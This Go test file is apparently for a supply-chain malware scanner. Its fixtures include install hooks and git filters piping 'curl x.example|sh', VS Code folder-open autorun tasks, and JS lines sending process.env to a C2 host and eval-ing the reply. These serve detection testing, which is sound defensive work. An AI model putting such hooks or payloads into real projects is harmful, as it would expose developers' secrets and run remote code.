package scan

import (
	"fmt"
	"strings"
	"testing"

	"github.com/bulwark-sec/bulwark"
)

// TestCapKeepsSevereFindings: past MaxFindings harmless findings, a
// critical one found last is still in the report, the verdict counts
// every finding, and the report says it was capped.
func TestCapKeepsSevereFindings(t *testing.T) {
	t.Parallel()
	const rules = `  - id: NOISE
    target: "**/*.txt"
    type: exists
    severity: info
    why: noise
  - id: MEH
    target: "**/*.md"
    type: exists
    severity: medium
    why: meh
  - id: BAD
    target: "**/*.js"
    type: regex
    regex: 'eval\(r\.data\)'
    severity: critical
    why: bad
`
	var files []*File
	for i := range MaxFindings + 1 {
		files = append(files, &File{Path: fmt.Sprintf("a/%05d.txt", i)})
	}
	files = append(files, &File{Path: "b/x.md"}, &File{Path: "z/loader.js", Data: []byte("get(u).then(r=>eval(r.data))\n")})
	rep := scanMem(t, rules, files...)
	if rep.Verdict != bulwark.VerdictBlock {
		t.Errorf("verdict %s, want block", rep.Verdict)
	}
	if len(rep.Findings) != MaxFindings || !rep.Capped {
		t.Errorf("%d findings, capped %v; want %d, capped", len(rep.Findings), rep.Capped, MaxFindings)
	}
	var sawBad, sawMeh bool
	for _, f := range rep.Findings {
		sawBad = sawBad || f.Rule == "BAD"
		sawMeh = sawMeh || f.Rule == "MEH"
	}
	if !sawBad || !sawMeh {
		t.Errorf("critical kept %v, medium kept %v; want both", sawBad, sawMeh)
	}
	want := map[Severity]int{SeverityInfo: MaxFindings + 1, SeverityMedium: 1, SeverityCritical: 1}
	for sev, n := range want {
		if rep.Counts[sev] != n {
			t.Errorf("counts %v, want %v", rep.Counts, want)
			break
		}
	}
	if len(rep.Skipped) == 0 || !strings.Contains(rep.Skipped[len(rep.Skipped)-1], "3 findings past 10000 were left out") {
		t.Errorf("skipped %q", rep.Skipped)
	}
}

// TestCapKeepsEveryHighFinding: high and critical findings are never
// dropped, even past MaxFindings.
func TestCapKeepsEveryHighFinding(t *testing.T) {
	t.Parallel()
	rules := "  - id: HI\n    target: \"**/*.js\"\n    type: exists\n    severity: high\n    why: hi\n  - id: LO\n    target: \"**/*.txt\"\n    type: exists\n    severity: low\n    why: lo\n"
	var files []*File
	for i := range 10 {
		files = append(files, &File{Path: fmt.Sprintf("t%d.txt", i)})
	}
	for i := range MaxFindings + 5 {
		files = append(files, &File{Path: fmt.Sprintf("h%05d.js", i)})
	}
	rep := scanMem(t, rules, files...)
	if len(rep.Findings) != MaxFindings+5 || !rep.Capped || rep.Counts[SeverityLow] != 10 {
		t.Errorf("%d findings, capped %v, counts %v", len(rep.Findings), rep.Capped, rep.Counts)
	}
	for _, f := range rep.Findings {
		if f.Rule != "HI" {
			t.Fatalf("kept %+v", f)
		}
	}
}

// TestDefaultScannerRunsDetectors: NewScanner(Options{}), what the command
// line and the API build, runs the Go detectors besides the rules, and a
// dependency's source is reported once (by the detector), not also by a
// rule at another severity.
func TestDefaultScannerRunsDetectors(t *testing.T) {
	t.Parallel()
	s, err := NewScanner(Options{})
	if err != nil {
		t.Fatal(err)
	}
	rep, err := s.ScanFiles(t.Context(), []*File{{Path: "package.json", Data: []byte(`{
  "dependencies": {
    "react-plaid-sdk": "1.0.0",
    "a": "git+https://example.com/a.git",
    "b": "http://45.61.136.10/b.tgz"
  }
}
`)}})
	if err != nil {
		t.Fatal(err)
	}
	perLine := map[int][]string{}
	for _, f := range rep.Findings {
		perLine[f.Line] = append(perLine[f.Line], f.Rule+" "+string(f.Severity))
	}
	want := map[int][]string{
		3: {"KNOWN-MALICIOUS-DEPENDENCY critical"},
		4: {"DEP-URL-SOURCE medium"},
		5: {"DEP-RAW-IP-SOURCE high"},
	}
	if fmt.Sprint(perLine) != fmt.Sprint(want) {
		t.Errorf("findings by line %v, want %v", perLine, want)
	}
	if rep.Verdict != bulwark.VerdictBlock {
		t.Errorf("verdict %s", rep.Verdict)
	}
}

// TestRuleEvasions: ways around the built-in rules a reviewer found each
// give the rule's finding; the well-known install commands do not.
func TestRuleEvasions(t *testing.T) {
	t.Parallel()
	s, err := NewScanner(Options{})
	if err != nil {
		t.Fatal(err)
	}
	pkg := func(script string) string { return `{"scripts":{` + script + `}}` }
	for _, tc := range []struct {
		name, path, data, rule string
		sev                    Severity // the least; "" means the rule must not fire at medium or above
	}{
		{"prepare", "package.json", pkg(`"prepare":"node setup.js"`), "NPM-LIFECYCLE-SCRIPT", SeverityHigh},
		{"install.js", "package.json", pkg(`"postinstall":"node install.js"`), "NPM-LIFECYCLE-SCRIPT", SeverityHigh},
		{"npm run build", "package.json", pkg(`"postinstall":"npm run build","build":"node tools/build.js"`), "NPM-LIFECYCLE-SCRIPT", SeverityHigh},
		{"husky and curl", "package.json", pkg(`"prepare":"husky && curl -s http://x.example/a|sh"`), "NPM-LIFECYCLE-SCRIPT", SeverityHigh},
		{"case", "Package.json", pkg(`"postinstall":"curl -s http://x.example/a|sh"`), "NPM-LIFECYCLE-SCRIPT", SeverityHigh},
		{"gyp", "binding.gyp", "{'targets':[{'sources':['<!(curl -s http://x.example/a|sh)']}]}", "GYP-COMMAND-EXPANSION", SeverityHigh},
		{"tasks case", ".vscode/Tasks.json", `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`, "VSCODE-AUTORUN-TASK", SeverityCritical},
		{"tasks escape", ".vscode/tasks.json", `{"tasks":[{"runOptions":{"runOn":"\u0066olderOpen"}}]}`, "VSCODE-AUTORUN-TASK", SeverityCritical},
		{"tasks comment", ".vscode/tasks.json", `{"tasks":[{"runOptions":{"runOn": /* */ "folderOpen"}}]}`, "VSCODE-AUTORUN-TASK", SeverityCritical},
		{"workspace", "app.code-workspace", `{"settings":{"task.allowAutomaticTasks":"on"},"tasks":{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}}`, "VSCODE-AUTORUN-TASK", SeverityCritical},
		{"workspace settings", "app.code-workspace", `{"settings":{"task.allowAutomaticTasks":"on"}}`, "VSCODE-SETTINGS-AUTOTASKS", SeverityHigh},
		{"git config", "proj/.git/config", "[core]\n\tfsmonitor = \"node .git/fsm.js\"\n", "GIT-CONFIG-EXEC", SeverityHigh},
		{"git filter", "proj/.git/config", "[filter \"lfs\"]\n\tsmudge = sh -c 'curl x|sh'\n", "GIT-CONFIG-EXEC", SeverityHigh},
		{"comment", "src/a.js", "const payload = JSON.stringify(process.env); // exec\n", "JS-PROCESS-ENV-EXFIL", SeverityMedium},
		{"raw ip comment", "src/a.js", "axios.get(\"http://45.61.136.10:3000/api/x\"); // see http://127.0.0.1/\n", "RAW-IP-URL", SeverityMedium},
		{"npmrc host", ".npmrc", "registry=https://registry.npmjs.org.pkg-mirror.example/\n", "NPMRC-REGISTRY-OVERRIDE", SeverityHigh},
		{"jsx", "pages/index.jsx", "fetch(u,{method:'POST',body:JSON.stringify(process.env)})\n", "JS-ENV-SENT-OUT", SeverityCritical},
		{"vue", "src/App.vue", "<script>axios.post(C2,{...process.env}).then(r=>eval(r.data))</script>\n", "JS-EVAL-REMOTE-RESPONSE", SeverityCritical},
		{"mts", "src/a.mts", "axios.post(C2,{...process.env}).then(r=>eval(r.data))\n", "JS-ENV-SENT-OUT", SeverityCritical},
		{"indirect eval", "postcss.config.cjs", "module.exports={};(0,eval)(Buffer.from(process.env.X,'base64').toString())\n", "CONFIG-INDIRECT-EVAL", SeverityHigh},
		{"hardhat", "hardhat.config.js", "module.exports={};(0,eval)(atob('eA=='))\n", "CONFIG-INDIRECT-EVAL", SeverityHigh},
		// Not at medium or above:
		{"npmrc npm", ".npmrc", "registry=https://registry.npmjs.org/\n", "NPMRC-REGISTRY-OVERRIDE", ""},
		{"prisma", "package.json", pkg(`"postinstall":"prisma generate"`), "NPM-LIFECYCLE-SCRIPT", ""},
		{"nuxt", "package.json", pkg(`"postinstall":"nuxt prepare"`), "NPM-LIFECYCLE-SCRIPT", ""},
		{"electron-builder", "package.json", pkg(`"postinstall":"electron-builder install-app-deps"`), "NPM-LIFECYCLE-SCRIPT", ""},
		{"husky", "package.json", pkg(`"prepare":"husky"`), "NPM-LIFECYCLE-SCRIPT", ""},
		{"powershell extension", ".vscode/extensions.json", `{"recommendations":["ms-vscode.powershell"]}`, "VSCODE-TASK-SHELL-FETCH", ""},
		{"powershell settings", ".vscode/settings.json", `{"[powershell]":{"editor.tabSize":4}}`, "VSCODE-TASK-SHELL-FETCH", ""},
		{"spawn env", "src/a.js", "spawn(cmd, args, { env: { ...process.env } })\n", "JS-PROCESS-ENV-EXFIL", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			rep, err := s.ScanFiles(t.Context(), []*File{{Path: tc.path, Data: []byte(tc.data)}})
			if err != nil {
				t.Fatal(err)
			}
			var got Severity
			for _, f := range rep.Findings {
				if f.Rule == tc.rule {
					got = f.Severity
				}
			}
			if tc.sev == "" {
				if got != "" && severityRank(got) >= severityRank(SeverityMedium) {
					t.Errorf("%s %s, want none at medium or above (%+v)", tc.rule, got, rep.Findings)
				}
				return
			}
			if got == "" || severityRank(got) < severityRank(tc.sev) {
				t.Errorf("%s: %q, want %s or above (findings %+v)", tc.rule, got, tc.sev, rep.Findings)
			}
		})
	}
}
